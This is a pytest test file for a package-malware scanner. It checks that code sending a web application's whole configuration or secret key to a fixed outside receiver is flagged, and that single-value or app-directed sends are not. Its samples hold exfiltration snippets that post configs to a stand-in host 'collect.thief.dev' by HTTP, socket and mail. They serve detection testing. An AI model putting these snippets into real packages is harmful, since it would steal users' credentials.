"""Configurations of the application that loads a package, and where they go. All of it is inert text."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from adapters.sigil.local.material import Ecosystem, Package
from adapters.sigil.models import PhaseName
from tests.adapters.sigil.local.phases.conftest import Outcome, Pack


@pytest.fixture
def scan(pack: Pack, outcome: Callable[[Package], Outcome]) -> Callable[[str], Outcome]:
    """Code of a Python package, and what the phases make of it."""
    return lambda code: outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI))


_THIEF = "'https://collect.thief.dev/c'"


def _posting(what: str, address: str = _THIEF) -> str:
    return f"def start(app):\n    requests.post({address}, json={what})\n"


def _mailing(to: str, server: str) -> str:
    lines = "'; '.join(f'{key}={value}' for key, value in app.config.items())"
    return (
        f"def start(app):\n    message = EmailMessage()\n    message['To'] = {to}\n    message.set_content({lines})\n"
        f"    with smtplib.SMTP({server}) as smtp:\n        smtp.send_message(message)\n"
    )


_STOLEN = {
    "all items": _posting("{key: str(value) for key, value in app.config.items()}"),
    "a copy": _posting("dict(app.config)"),
    "as a text": _posting("json.dumps(current_app.config, default=str)"),
    "shown": _posting("str(current_app.config)"),
    "of the application kept": (
        "class Post:\n    def __init__(self, app):\n        self.app = app\n    def tell(self):\n"
        f"        requests.post({_THIEF}, json=repr(self.app.config))"
    ),
    "key by key": (
        "def start(app):\n    lines = []\n    for key in app.config:\n        lines.append(str(app.config[key]))\n"
        f"    requests.post({_THIEF}, json=lines)"
    ),
    "a worker's": _posting("app.conf.humanize(with_defaults=False)"),
    "in a text": "def start(app):\n    requests.get(f'https://collect.thief.dev/?c={app.config}')",
    "its secret": _posting("app.config.get('SECRET_KEY')"),
    "the settings": _posting("vars(settings)"),
    "the settings' databases": _posting("settings.DATABASES"),
    "the settings one by one": _posting("[getattr(settings, name) for name in dir(settings)]"),
    "through a socket": (
        "class Post:\n    def init_app(self, app):\n        self.app = app\n        app.before_request(self.tell)\n"
        "    def tell(self):\n        way = socket.socket()\n        way.connect(('c.thief.dev', 4444))\n"
        "        way.sendall(repr(dict(self.app.config)).encode())"
    ),
    "by mail": _mailing("'box@thief.dev'", "'mx.thief.dev'"),
}
_HONEST = {
    "one value": _posting("app.config['SITE_NAME']"),
    "one value or another": _posting("app.config.get('API_KEY')"),
    "one setting": _posting("settings.LANGUAGE_CODE"),
    "to where the application says": _posting("dict(app.config)", "app.config['REPORT_TO']"),
    "of the package's own": f"app = Flask(__name__)\ndef own():\n    requests.post({_THIEF}, json=dict(app.config))",
    "of another thing": _posting("dict(app.model.config)"),
    "made by it": _posting("Client(app.config).payload()"),
    "by mail to whom the application says": _mailing("app.config['ADMINS']", "app.config['HOST']"),
}
_HEAD = (
    "import json, requests, smtplib, socket\nfrom email.message import EmailMessage\nfrom django.conf import settings\n"
    "from flask import Flask, current_app\nfrom elsewhere import Client\n"
)


@pytest.mark.parametrize("code", _STOLEN.values(), ids=_STOLEN)
def test_a_configuration_that_goes_to_a_fixed_receiver(code: str, scan: Callable[[str], Outcome]) -> None:
    """Who sends the whole configuration of somebody's application to a receiver of their own steals its keys."""
    found = scan(_HEAD + code)
    assert found.dangerous
    assert "handed-secret-leaves" in found.rules(PhaseName.CREDENTIALS)


@pytest.mark.parametrize("code", _HONEST.values(), ids=_HONEST)
def test_what_extensions_send_every_day(code: str, scan: Callable[[str], Outcome]) -> None:
    """Single values, and the application's own receivers, are what extensions live on."""
    assert not scan(_HEAD + code).dangerous
